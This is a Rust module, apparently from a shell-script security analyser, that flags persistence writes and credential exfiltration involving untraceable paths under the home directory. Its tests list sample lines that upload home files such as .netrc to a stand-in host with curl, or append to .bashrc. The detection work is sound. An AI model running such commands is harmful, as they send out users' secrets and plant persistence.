//! Places right below the home whose name nobody can tell: they may be where credentials lie, or what starts with every session.

use super::paths;
use super::value::{Taint, Value};
use super::walk::Walk;
use crate::finding::Severity;
use crate::rules::shell as rules;

/// 2 letters of such a name may be known: `.b` begins names of many kinds.
const LETTERS: usize = 2;

/// 64 words of a list of which one is meant.
const WORDS: usize = 64;

/// How a place right below the home is named.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Named {
    /// By one of a list's words.
    Listed(Vec<String>),
    /// By what nobody can tell.
    Untold,
    /// By an argument, or by a variable that somebody else sets.
    Given,
}

impl Walk<'_> {
    fn named(&self, path: &Value) -> Option<Named> {
        let of = |word: &str| word.rsplit_once("]=").map_or(word, |(_, word)| word).to_owned();
        let is_picked = path.taint.has(Taint::PICKED);
        if is_picked && path.text.trim_start().starts_with('[') {
            return Some(Named::Listed(path.text.split_ascii_whitespace().map(of).take(WORDS).collect()));
        }
        let below = ["${HOME}/", "~/"].iter().find_map(|home| path.text.strip_prefix(home))?.trim_start_matches('/');
        if is_picked {
            let start = below.len().saturating_sub(below.trim_start_matches(['.', '_']).len());
            let end = below.find('[').unwrap_or(start);
            let (start, list) = below.split_at_checked(end).unwrap_or(("", below));
            let words = list.split_ascii_whitespace().map(of).take(WORDS);
            let all: Vec<String> = words.map(|word| format!("${{HOME}}/{start}{word}")).collect();
            return Some(if list.contains('$') { Named::Untold } else { Named::Listed(all) });
        }
        let (before, hole) = below.split_once('$')?;
        if before.contains(['/', ' ']) || before.trim_start_matches(['.', '_']).len() > LETTERS || path.known {
            return None;
        }
        let Some(name) = hole.strip_prefix('{').and_then(|rest| rest.split_once('}')).map(|(name, _)| name) else {
            return hole.starts_with("(…)").then_some(Named::Untold).filter(|_| !path.taint.has(Taint::TILDE));
        };
        let is_argument = name.chars().all(|c| c.is_ascii_digit() || matches!(c, '@' | '*' | '#'));
        let is_set = !is_argument && self.memory.variable(name).is_some();
        match name {
            "HOME" => None,
            _ if path.taint.has(Taint::TILDE) => None,
            _ => Some(if is_set { Named::Untold } else { Named::Given }),
        }
    }

    /// Something is written to `path`.
    pub(super) fn writes_untold(&mut self, path: &Value) {
        let asks = self.context.is_asked();
        let severity = match self.named(path) {
            None => return,
            Some(Named::Listed(all)) => {
                if let Some(one) = all.iter().find(|one| paths::is_lasting(one)) {
                    self.tell(&rules::LASTING, &format!("{one} is written"), None);
                }
                return;
            }
            Some(Named::Given) if asks => return,
            Some(Named::Untold) if !asks => None,
            Some(Named::Untold | Named::Given) => Some(Severity::Warning),
        };
        let message = "what is written lies in the home, under a name that cannot be told: it may be what starts again";
        self.tell(&rules::LASTING, message, severity);
    }

    /// What is at `path` is read.
    pub(super) fn reads_untold(&mut self, path: &Value) {
        match self.named(path) {
            Some(Named::Listed(all)) => {
                if let Some(one) = all.iter().find(|one| paths::is_secret(one)) {
                    self.tell(&rules::SECRET, &format!("{one} is read"), None);
                }
            }
            Some(Named::Untold) if !self.context.is_asked() => {
                let message = "what lies in the home under a name that cannot be told is read in a script that sends";
                let finding = self.finding(&rules::EXFIL, message, None);
                self.doubts.reads(finding);
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::shell::Context;
    use crate::shell::tests::{is_danger, is_no_danger};

    #[test]
    fn what_is_written_right_below_the_home_by_a_name_that_cannot_be_told_is_what_lasts() {
        for line in [
            "n=$(jq -r .name \"$conf\")\necho 'x' >> \"$HOME/$n\"",
            "n=$(jq -r .name \"$conf\")\ncp \"$d/a\" ~/.\"$n\"",
            "while read -r n; do echo x >> \"$HOME/.$n\"; done < <(sort \"$list\")",
            "read -r n < \"$list\"\necho x | tee -a \"$HOME/.b$n\"",
        ] {
            is_danger(line, Context::Script);
            is_no_danger(line, Context::Named);
            is_no_danger(line, Context::Loose);
        }
        is_danger("t=(notes bashrc)\necho x >> \"$HOME/.${t[$RANDOM % 2]}\"", Context::Script);
        let listed =
            "declare -A t=([a]=\"$HOME/.config/x.json\" [b]=\"$HOME/.bashrc\")\nof() { printf '%s' \"${t[$1]}\"; }\n";
        is_danger(
            &format!("{listed}put() {{ local to=$1; mv a \"$to\"; }}\nput \"$(of \"$(pick)\")\""),
            Context::Script,
        );
        is_no_danger(&format!("{listed}cat \"$(of \"$(pick)\")\""), Context::Script);
        is_danger("declare -A t=([a]=bashrc [b]=notes)\nk=$(pick)\necho x >> \"$HOME/.${t[$k]}\"", Context::Script);
    }

    #[test]
    fn what_is_read_right_below_the_home_by_a_name_that_cannot_be_told_is_sent() {
        for line in [
            "n=$(jq -r .name \"$conf\")\ncurl -s -T \"$HOME/$n\" https://a.invalid",
            "n=$(jq -r .name \"$conf\")\ncat \"$HOME/.$n\" > /tmp/x\ncurl -s --data-binary @/tmp/x https://a.invalid",
            "read -r n < \"$list\"\nbase64 < \"$HOME/.$n\" | curl -sd @- https://a.invalid",
            "declare -A t=([a]=notes [b]=netrc)\ncurl -sT \"$HOME/.${t[$(pick)]}\" https://a.invalid",
        ] {
            is_danger(line, Context::Script);
        }
    }

    #[test]
    fn places_that_somebody_named_stay_what_they_are() {
        for line in [
            "p=$(jq -r .path \"$conf\")\nmkdir -p x\necho x > \"${p/#\\~/$HOME}\"",
            "p=$(jq -r .path \"$conf\")\ncase $p in '~'*) p=\"$HOME/${p#\\~/}\" ;; esac\necho x > \"$p\"",
            "p=$(jq -r .path \"$conf\")\n[[ $p == ~* ]] && p=\"$HOME/${p:2}\"\necho x > \"$p\"",
            "f=$(pick)\nrel=${f#\"$HOME/\"}\necho x > \"$HOME/$rel\"",
            "echo x > \"$HOME/$1\"",
            "echo x > \"$HOME/$APP_DIR/log\"",
            "n=$(date +%F)\necho x > \"$HOME/.cache/app/$n\"",
            "n=$(date +%F)\necho x > \"$HOME/claude-$n.log\"",
            "n=$(pick)\ncat \"$HOME/$n\"",
            "n=$(pick)\ncat \"$HOME/$n\"\ncurl -s https://a.invalid/version",
            "declare -A t=([a]=cachefile [b]=notes)\necho x >> \"$HOME/.${t[$(pick)]}\"",
        ] {
            is_no_danger(line, Context::Script);
        }
    }
}
